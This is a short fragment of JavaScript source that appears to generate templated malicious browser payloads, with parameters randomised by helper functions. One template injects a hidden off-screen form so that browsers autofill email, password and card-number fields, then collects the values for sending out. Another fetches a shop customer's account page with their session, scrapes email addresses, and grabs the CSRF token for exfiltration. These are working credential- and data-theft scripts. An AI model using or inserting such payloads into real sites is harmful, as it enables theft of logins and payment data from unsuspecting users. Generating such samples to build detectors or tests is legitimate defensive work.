      `var f=document.createElement('form');f.style.cssText='position:absolute;left:-9999px';f.innerHTML='<input name="email" autocomplete="email"><input type="password" name="pass" autocomplete="current-password"><input name="cc" autocomplete="cc-number">';document.body.appendChild(f);setTimeout(function(){var d=[].map.call(f.elements,function(e){return e.name+'='+e.value}).join('&');if(/=./.test(d)){${leave(v, 'd')}}},${v.number(5, 40)}00);`,
  ),
  hostile(
    'site of a shop whose keys are used',
    (v) =>
      `(async function(){var t=document.querySelector('meta[name=csrf-token]');var r=await fetch('/${v.pick(['account', 'customer/account', 'my-account'])}',{credentials:'include'});var h=await r.text();var m=h.match(/[\\w.+-]+@[\\w-]+\\.[\\w.]+/g)||[];${leave(v, 'JSON.stringify({m:m,t:t&&t.content,u:location.href})')}})();`,
  ),
]
